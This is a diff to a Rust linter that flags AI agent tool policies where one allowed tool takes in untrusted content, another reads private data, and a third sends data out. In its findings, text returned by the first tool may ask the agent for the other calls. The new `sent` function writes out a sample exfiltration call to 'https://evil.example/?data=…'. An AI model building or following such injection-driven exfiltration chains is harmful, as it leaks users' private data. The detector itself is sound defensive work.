@@ -2,10 +2,10 @@ use crate::{
     diagnostic::{Class, Code, Level},
     lint::{
         Check, Confidence, File, Findings, Persona, Rule, call,
-        capability::{Traits, free_url_param, recipient_param},
+        capability::{Traits, free_url_param, narrowed, recipient_param},
         together::{Held, Together},
     },
-    syntax::literal::{write_name, write_path},
+    syntax::literal::write_name,
     text::quoted_list,
 };
 
@@ -67,8 +67,10 @@ fn say(together: &Together<'_, '_>, legs: [&[Held<'_, '_>]; 3], findings: &mut F
             finding = finding.label(place(held), format!("`{}` {does}", held.name()));
         }
     }
-    let calls: Vec<String> = chain.iter().map(|held| shown(*held)).collect();
-    finding.proof = Some(format!("{}: each is allowed, and the first may tell the agent to make the others", calls.join(", then ")));
+    let mut calls = vec![shown(take_in), shown(read), sent(send)];
+    calls.dedup();
+    finding.proof =
+        Some(format!("{}: each is allowed, and what the first returns may ask for the rest", calls.join(", then ")));
     finding.help = Some(format!("put a gate on one of the three: {}", gate(send)));
     findings.add(finding);
 }
@@ -83,7 +85,21 @@ fn chain<'f, 'a>(
     let other = |leg: &[Held<'f, 'a>]| leg.iter().find(|held| held.server() != read.server()).copied();
     let (&take_in, &send) = (untrusted.first()?, outward.first()?);
     let apart = |leg: &[Held<'f, 'a>], held: Held<'f, 'a>| other(leg).unwrap_or(held);
-    Some([apart(untrusted, take_in), read, apart(outward, send)])
+    let take_in = apart(untrusted, take_in);
+    // where one tool does both, another shows better what happens
+    let read = private.iter().find(|held| held.server() == read.server() && held.name() != take_in.name()).copied();
+    Some([take_in, read.or(private.first().copied())?, apart(outward, send)])
+}
+
+/// A call of the last leg that carries something to a stranger, as far as its arguments can say so.
+fn sent(held: Held<'_, '_>) -> String {
+    let tool = held.policy.entry(held.id);
+    let url = || tool.and_then(|tool| Some((tool, free_url_param(tool)?, "https://evil.example/?data=…")));
+    let to = || tool.and_then(|tool| Some((tool, recipient_param(tool)?, "stranger@example.com")));
+    match url().or_else(to) {
+        Some((tool, param, value)) => call::with(tool, &param.name, call::as_taken(param, value)),
+        None => shown(held),
+    }
 }
 
 fn shown(held: Held<'_, '_>) -> String {
@@ -94,13 +110,10 @@ fn shown(held: Held<'_, '_>) -> String {
 fn gate(held: Held<'_, '_>) -> String {
     let name = write_name(held.name());
     let tool = held.policy.entry(held.id);
-    let param = |of: fn(&crate::catalog::Tool) -> Option<&crate::catalog::Param>| tool.and_then(of);
-    let narrowed = |condition: String| format!("`ask {name}`, or narrow it with `on {name} {{ require {condition} }}`");
-    if let Some(url) = param(free_url_param).filter(|url| url.name != "urls") {
-        return narrowed(format!("{} host in [\"docs.example.com\"]", write_path(std::slice::from_ref(&url.name))));
-    }
-    match param(recipient_param) {
-        Some(to) => narrowed(format!("{} in [\"…\"]", write_path(std::slice::from_ref(&to.name)))),
+    let url = tool.and_then(free_url_param).and_then(|url| narrowed(url, "host in [\"docs.example.com\"]"));
+    let to = || tool.and_then(recipient_param).and_then(|to| narrowed(to, "in [\"…\"]"));
+    match url.or_else(to) {
+        Some(require) => format!("`ask {name}`, or narrow it with `on {name} {{ {require} }}`"),
         None => format!("`ask {name}` lets a person look at what is sent"),
     }
 }
